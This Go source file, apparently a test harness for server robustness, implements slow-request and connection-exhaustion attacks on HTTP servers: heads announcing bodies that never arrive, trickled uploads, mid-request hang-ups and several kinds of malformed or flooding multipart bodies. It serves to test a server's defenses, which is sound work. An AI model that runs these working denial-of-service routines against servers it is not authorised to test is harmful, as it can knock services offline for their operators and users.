package hostile

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"strings"
	"time"
)

// The attacks below are on an HTTP server's connections rather than on its decoders: heads that
// announce bodies that never come, clients that hang up mid-request, bodies sent a trickle at a
// time, and multipart bodies of many tiny parts. Each runs until its context ends (or its work is
// done) and sends traffic only to the address it is given.

// HeadOnly sends a head announcing a body of size bytes on a fresh connection, and nothing more;
// the connection stays open until ctx ends or the server closes it.
func HeadOnly(ctx context.Context, addr, path string, size int64) error {
	c, err := dial(ctx, addr)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	if _, err := fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", path, size); err != nil {
		return err
	}
	return waitClosed(ctx, c)
}

// HangUp sends a whole request and closes the connection after wait, before the answer (when the
// server is slower than that).
func HangUp(ctx context.Context, addr, path, contentType string, body []byte, wait time.Duration) error {
	c, err := dial(ctx, addr)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	if _, err := fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n", path, contentType, len(body)); err != nil {
		return err
	}
	if _, err := c.Write(body); err != nil {
		return err
	}
	select {
	case <-time.After(wait):
	case <-ctx.Done():
	}
	return nil
}

// SlowBody announces a body of size bytes and sends it chunk bytes every interval until it is
// sent, the server closes the connection, or ctx ends.
func SlowBody(ctx context.Context, addr, path string, size int64, chunk int, interval time.Duration) error {
	c, err := dial(ctx, addr)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	if _, err := fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{\"image\":\"", path, size); err != nil {
		return err
	}
	piece := bytes.Repeat([]byte("A"), chunk)
	tick := time.NewTicker(interval)
	defer tick.Stop()
	for sent := int64(10); sent < size; sent += int64(chunk) {
		select {
		case <-ctx.Done():
			return nil
		case <-tick.C:
		}
		_ = c.SetWriteDeadline(time.Now().Add(interval + time.Second))
		if _, err := c.Write(piece[:min(int64(chunk), size-sent)]); err != nil {
			return nil // the server gave up on it: the point
		}
	}
	return nil
}

// SlowUpload is SlowBody that listens: it announces a JSON body of size bytes to path, sends the
// first bytes of it at once (past what a server reads of a body before its handler runs: 8 KiB
// for fasthttp), then chunk bytes every interval, and reads the connection meanwhile. It returns
// the status and body of the answer as soon as one comes, whether the body was all sent or not (a
// server may answer before it has read a body: a refusal, or its shutdown), and an error when
// the connection closes without an answer or ctx ends first.
func SlowUpload(ctx context.Context, addr, path string, size int64, first, chunk int, interval time.Duration) (status int, body []byte, err error) {
	c, err := dial(ctx, addr)
	if err != nil {
		return 0, nil, err
	}
	defer func() { _ = c.Close() }()
	stop := context.AfterFunc(ctx, func() { _ = c.SetDeadline(time.Now()) })
	defer stop()
	type answer struct {
		status int
		body   []byte
		err    error
	}
	answered := make(chan answer, 1)
	go func() {
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			answered <- answer{err: fmt.Errorf("no answer: %w", err)}
			return
		}
		b, err := io.ReadAll(resp.Body)
		_ = resp.Body.Close()
		answered <- answer{status: resp.StatusCode, body: b, err: err}
	}()
	if _, err := fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{\"image\":\"", path, size); err != nil {
		return 0, nil, err
	}
	sent := min(size, 10+int64(first))
	if _, err := c.Write(bytes.Repeat([]byte("A"), int(sent-10))); err != nil {
		return 0, nil, err
	}
	piece := bytes.Repeat([]byte("A"), chunk)
	tick := time.NewTicker(interval)
	defer tick.Stop()
	for ; sent < size; sent += int64(chunk) {
		select {
		case a := <-answered:
			return a.status, a.body, a.err
		case <-tick.C:
		}
		if _, err := c.Write(piece[:min(int64(chunk), size-sent)]); err != nil {
			break // the server stopped reading; its answer may still be there
		}
	}
	a := <-answered
	return a.status, a.body, a.err
}

// MultipartFlood is a multipart/form-data body of parts parts, each a tiny form field, and its
// content type.
func MultipartFlood(parts int) (contentType string, body []byte) {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	for i := range parts {
		_ = w.WriteField(fmt.Sprintf("f%d", i), "x")
	}
	_ = w.Close()
	return w.FormDataContentType(), b.Bytes()
}

// The multipart bodies below are built by hand, with the boundary "b", where mime/multipart
// would refuse to write them.
const formBoundary = "b"

// FormContentType is the content type of the hand-built forms below.
const FormContentType = "multipart/form-data; boundary=" + formBoundary

// formPart is one part of a hand-built form: its delimiter, head lines and the blank line.
func formPart(head ...string) string {
	return "--" + formBoundary + "\r\n" + strings.Join(head, "\r\n") + "\r\n\r\n"
}

const filePart = `Content-Disposition: form-data; name="file"; filename="x.png"`

// MultipartFileFlood is a form of at least size bytes made of empty "file" parts: tens of
// thousands of files to answer for a few megabytes.
func MultipartFileFlood(size int) []byte {
	var b strings.Builder
	for b.Len() < size {
		b.WriteString(formPart(filePart) + "\r\n")
	}
	b.WriteString("--" + formBoundary + "--\r\n")
	return []byte(b.String())
}

// MultipartHeadFlood is a form of at least size bytes whose "file" parts are all head: each
// holds a header line of 7 000 bytes and one byte of content.
func MultipartHeadFlood(size int) []byte {
	var b strings.Builder
	pad := "X-Pad: " + strings.Repeat("a", 7000)
	for b.Len() < size {
		b.WriteString(formPart(filePart, pad) + "x\r\n")
	}
	b.WriteString("--" + formBoundary + "--\r\n")
	return []byte(b.String())
}

// MultipartNested is a form whose "file" part is itself a multipart body of size bytes, which a
// reader that follows nesting would descend into.
func MultipartNested(size int) []byte {
	return []byte(formPart(filePart, "Content-Type: multipart/mixed; boundary=in") +
		"--in\r\n\r\n" + strings.Repeat("n", size) + "\r\n--in--\r\n--" + formBoundary + "--\r\n")
}

// MultipartUnterminated is a form whose one "file" part of size bytes never meets its closing
// delimiter.
func MultipartUnterminated(size int) []byte {
	return []byte(formPart(filePart) + strings.Repeat("u", size))
}

func dial(ctx context.Context, addr string) (net.Conn, error) {
	var d net.Dialer
	return d.DialContext(ctx, "tcp", addr)
}

// waitClosed reads (and drops) what the server sends until it closes the connection or ctx ends.
func waitClosed(ctx context.Context, c net.Conn) error {
	stop := context.AfterFunc(ctx, func() { _ = c.SetReadDeadline(time.Now()) })
	defer stop()
	_, _ = io.Copy(io.Discard, c)
	return nil
}
